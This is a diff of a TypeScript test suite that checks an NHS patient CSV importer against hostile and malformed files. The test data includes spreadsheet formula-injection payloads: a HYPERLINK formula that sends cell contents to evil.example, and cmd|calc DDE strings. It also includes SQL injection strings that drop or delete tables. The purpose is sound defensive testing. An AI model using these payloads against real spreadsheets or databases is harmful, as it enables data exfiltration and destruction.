@@ -53,10 +53,37 @@ const cases: HostileCase[] = [
   { name: 'a valid export with NUL bytes inside', expect: 'error', file: () => fileOf('nul.csv', bytes(validCsv(3), [0, 0, 0], validCsv(2))) },
   { name: 'a PDF renamed .csv', expect: 'error', file: () => fileOf('report.csv', bytes('%PDF-1.7\n', junk(2000))) },
   { name: 'a ZIP (not a real workbook) renamed .csv', expect: 'error', file: () => fileOf('zip.csv', bytes([0x50, 0x4b, 0x03, 0x04], junk(2000))) },
-  { name: 'a web page saved as .csv', expect: 'error', file: () => fileOf('page.csv', '<!DOCTYPE html><html><body><table><tr><td>NHS Number</td></tr></table></body></html>') },
+  {
+    name: 'a web page saved as .csv',
+    expect: 'error',
+    file: () => fileOf('page.csv', '<!DOCTYPE html><html><body><table><tr><td>NHS Number</td></tr></table></body></html>')
+  },
   { name: 'JSON instead of CSV', expect: 'error', file: () => fileOf('data.csv', JSON.stringify([{ nhs: validNhsNumber(1) }])) },
-  { name: 'no NHS number column', expect: 'error', file: () => fileOf('no-nhs.csv', csvLines([['Name', 'DOB'], ['SMITH', '01/01/1950']])) },
-  { name: 'only a report header block, no column row', expect: 'error', file: () => fileOf('header-only.csv', csvLines([['Report Name:', 'BP list'], ['Run Date:', '01-Nov-2026'], ['Population Count:', '0']])) },
+  {
+    name: 'no NHS number column',
+    expect: 'error',
+    file: () =>
+      fileOf(
+        'no-nhs.csv',
+        csvLines([
+          ['Name', 'DOB'],
+          ['SMITH', '01/01/1950']
+        ])
+      )
+  },
+  {
+    name: 'only a report header block, no column row',
+    expect: 'error',
+    file: () =>
+      fileOf(
+        'header-only.csv',
+        csvLines([
+          ['Report Name:', 'BP list'],
+          ['Run Date:', '01-Nov-2026'],
+          ['Population Count:', '0']
+        ])
+      )
+  },
   // A column row with no patient rows under it is refused (not "an import of 0 patients").
   { name: 'only the column row, no data', expect: 'error', file: () => fileOf('columns-only.csv', csvLines([header])) },
   {
@@ -87,7 +114,11 @@ const cases: HostileCase[] = [
       expect(result.rejected.map((r) => r.row)).toEqual([7])
     }
   },
-  { name: 'a quote opened and never closed', expect: 'error', file: () => fileOf('open-quote.csv', csvLines([header, [validNhsNumber(1), '"SMITH', 'Jane', '05/03/1958', 'F', '', '', '']]) + validCsv(3)) },
+  {
+    name: 'a quote opened and never closed',
+    expect: 'error',
+    file: () => fileOf('open-quote.csv', csvLines([header, [validNhsNumber(1), '"SMITH', 'Jane', '05/03/1958', 'F', '', '', '']]) + validCsv(3))
+  },
   {
     name: 'a stray quote inside an unquoted cell',
     expect: 'either',
@@ -116,7 +147,11 @@ const cases: HostileCase[] = [
     },
     after: (_ctx, result) => expect(result.patientsAdded).toBe(1)
   },
-  { name: '10,000 columns and no NHS number', expect: 'error', file: () => fileOf('wide-no-nhs.csv', csvLines([Array.from({ length: 10_000 }, (_, i) => `Col ${i}`), Array.from({ length: 10_000 }, () => 'x')])) },
+  {
+    name: '10,000 columns and no NHS number',
+    expect: 'error',
+    file: () => fileOf('wide-no-nhs.csv', csvLines([Array.from({ length: 10_000 }, (_, i) => `Col ${i}`), Array.from({ length: 10_000 }, () => 'x')]))
+  },
   {
     name: 'a data row with 10,000 extra cells',
     expect: 'imports',
@@ -126,7 +161,11 @@ const cases: HostileCase[] = [
   {
     name: 'invalid UTF-8 sequences in names',
     expect: 'imports',
-    file: () => fileOf('bad-utf8.csv', bytes(csvLines([header]), validNhsNumber(1), ',M', [0xc3, 0x28, 0xa0, 0xa1, 0xff], 'LLER,Jane,05/03/1958,F,150,90,01/10/2026\r\n')),
+    file: () =>
+      fileOf(
+        'bad-utf8.csv',
+        bytes(csvLines([header]), validNhsNumber(1), ',M', [0xc3, 0x28, 0xa0, 0xa1, 0xff], 'LLER,Jane,05/03/1958,F,150,90,01/10/2026\r\n')
+      ),
     after: (ctx) => expect(storedName(ctx, validNhsNumber(1))).toMatch(/^M.+LLER$/)
   },
   {
@@ -138,9 +177,9 @@ const cases: HostileCase[] = [
         csvLines([
           header,
           good(1, '"=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"'),
-          good(2, '+cmd|\' /C calc\'!A0'),
+          good(2, "+cmd|' /C calc'!A0"),
           good(3, '-2+3'),
-          good(4, '@SUM(1+1)*cmd|\' /C calc\'!A0'),
+          good(4, "@SUM(1+1)*cmd|' /C calc'!A0"),
           ['1234567890', '=1+1', 'X', '01/01/1950', 'F', '', '', ''],
           // Indented formulas: spreadsheets skip the spaces and still run them.
           ['" 	=HYPERLINK(""http://evil.example"")"', 'X', 'Y', '01/01/1950', 'F', '', '', '']
@@ -158,7 +197,11 @@ const cases: HostileCase[] = [
     file: () =>
       fileOf(
         'sql.csv',
-        csvLines([header, [validNhsNumber(1), "Robert'); DROP TABLE patients;--", "' OR 1=1 --", '05/03/1958', 'F', '150', '90', '01/10/2026'], ["1; DELETE FROM imports", 'x', 'y', '', '', '', '', '']])
+        csvLines([
+          header,
+          [validNhsNumber(1), "Robert'); DROP TABLE patients;--", "' OR 1=1 --", '05/03/1958', 'F', '150', '90', '01/10/2026'],
+          ['1; DELETE FROM imports', 'x', 'y', '', '', '', '', '']
+        ])
       ),
     after: (ctx, result) => {
       expect(storedName(ctx, validNhsNumber(1))).toBe("Robert'); DROP TABLE patients;--")
@@ -169,7 +212,11 @@ const cases: HostileCase[] = [
   {
     name: 'every NHS number invalid',
     expect: 'imports',
-    file: () => fileOf('bad-nhs.csv', csvLines([header, ...['1234567890', '999 100 000', 'ABCDEFGHIJ', '9434765918', '0000000001'].map((n) => [n, 'X', 'Y', '01/01/1950', 'F', '', '', ''])])),
+    file: () =>
+      fileOf(
+        'bad-nhs.csv',
+        csvLines([header, ...['1234567890', '999 100 000', 'ABCDEFGHIJ', '9434765918', '0000000001'].map((n) => [n, 'X', 'Y', '01/01/1950', 'F', '', '', ''])])
+      ),
     after: (_ctx, result) => {
       expect(result.patientsAdded).toBe(0)
       expect(result.rejected).toHaveLength(5)
@@ -226,7 +273,11 @@ const cases: HostileCase[] = [
   {
     name: '50,000 continuation rows with no patient row above them',
     expect: 'imports',
-    file: () => fileOf('orphans.csv', csvLines([['NHS Number', 'Date', 'Code Term', 'Value'], ...Array.from({ length: 50_000 }, () => ['', '01/10/2026', 'Systolic blood pressure', '150'])])),
+    file: () =>
+      fileOf(
+        'orphans.csv',
+        csvLines([['NHS Number', 'Date', 'Code Term', 'Value'], ...Array.from({ length: 50_000 }, () => ['', '01/10/2026', 'Systolic blood pressure', '150'])])
+      ),
     after: (_ctx, result) => {
       expect(result.patientsAdded).toBe(0)
       expect(result.rejected).toHaveLength(50_000)
@@ -250,7 +301,14 @@ const cases: HostileCase[] = [
   {
     name: 'one NHS number 5,000 times with different dates of birth',
     expect: 'imports',
-    file: () => fileOf('dup.csv', csvLines([header, ...Array.from({ length: 5_000 }, (_, i) => [validNhsNumber(1), 'SMITH', 'Jane', `${String((i % 28) + 1).padStart(2, '0')}/03/1958`, 'F', '', '', ''])])),
+    file: () =>
+      fileOf(
+        'dup.csv',
+        csvLines([
+          header,
+          ...Array.from({ length: 5_000 }, (_, i) => [validNhsNumber(1), 'SMITH', 'Jane', `${String((i % 28) + 1).padStart(2, '0')}/03/1958`, 'F', '', '', ''])
+        ])
+      ),
     after: (_ctx, result) => {
       expect(result.patientsAdded).toBe(1)
       expect(result.conflicts.length).toBeGreaterThan(4_000)
@@ -321,7 +379,9 @@ describe('hostile and malformed import files', () => {
     assertEverythingStoredIsValid()
     if (result.importId !== null && !result.alreadyImported) {
       // Every rejected row is in the stored report, and its CSV has no cell a spreadsheet would run.
-      const csv = Buffer.from(rejectsCsvOf(ctx, { importId: result.importId }).contentBase64, 'base64').toString('utf8').replace(/^\uFEFF/, '')
+      const csv = Buffer.from(rejectsCsvOf(ctx, { importId: result.importId }).contentBase64, 'base64')
+        .toString('utf8')
+        .replace(/^\uFEFF/, '')
       const rows = Papa.parse<string[]>(csv.trim(), { header: false }).data
       expect(rows).toHaveLength(1 + result.rejected.length + result.conflicts.length)
       for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[\s\p{Cc}\p{Cf}]*[=+\-@]|^[\t\r]/u)
@@ -381,11 +441,17 @@ describe('CSV text: encodings, sizes, control characters and plain refusals', ()
 
   test('text after a closing quote is refused naming the row, rather than swallowing the rows after it', () => {
     const text = `${csvLines([header, good(1)])}${validNhsNumber(2)},"SMITH"JR,Jane,05/03/1958,F,,,\r\n${validNhsNumber(3)},"JONES",Tom,05/03/1958,M,,,\r\n`
-    expect(refusal(fileOf('quote-then-text.csv', text))).toMatch(/has a cell on row 3 that starts with a quote mark \(".*\) but has more text after its closing quote/)
+    expect(refusal(fileOf('quote-then-text.csv', text))).toMatch(
+      /has a cell on row 3 that starts with a quote mark \(".*\) but has more text after its closing quote/
+    )
   })
 
   test('two NHS number columns that disagree are refused naming both columns and the row', () => {
-    const text = csvLines([['NHS Number', 'Family Name', 'NHS number'], [validNhsNumber(1), 'SMITH', validNhsNumber(1)], [validNhsNumber(2), 'JONES', validNhsNumber(5)]])
+    const text = csvLines([
+      ['NHS Number', 'Family Name', 'NHS number'],
+      [validNhsNumber(1), 'SMITH', validNhsNumber(1)],
+      [validNhsNumber(2), 'JONES', validNhsNumber(5)]
+    ])
     expect(refusal(fileOf('two-nhs.csv', text))).toMatch(/two NHS number columns, A "NHS Number" and C "NHS number", and they disagree on row 3/)
   })
 
@@ -422,7 +488,16 @@ describe('CSV text: encodings, sizes, control characters and plain refusals', ()
   test('control characters and escape sequences are taken out of every field, and counted', () => {
     const text = csvLines([
       ['NHS Number', 'Family Name', 'Calling Name', 'Number and Street', 'Town', 'Date', 'Code Term', 'Value'],
-      [validNhsNumber(1), '\u001b[2JSMITH', 'Ja\u0007ne', '"1 High\u0008 Street"', '"Leeds\r\nWest Yorkshire"', '01/10/2026', 'Systolic blood pressure\u009b31m', '150'],
+      [
+        validNhsNumber(1),
+        '\u001b[2JSMITH',
+        'Ja\u0007ne',
+        '"1 High\u0008 Street"',
+        '"Leeds\r\nWest Yorkshire"',
+        '01/10/2026',
+        'Systolic blood pressure\u009b31m',
+        '150'
+      ],
       [validNhsNumber(2), '\u001b[31mJONES\u001b[0m', 'Tom', '2 Low Road', 'York', '', '', '']
     ])
     const result = importFiles(ctx, [fileOf('escapes.csv', text)], 'auto')
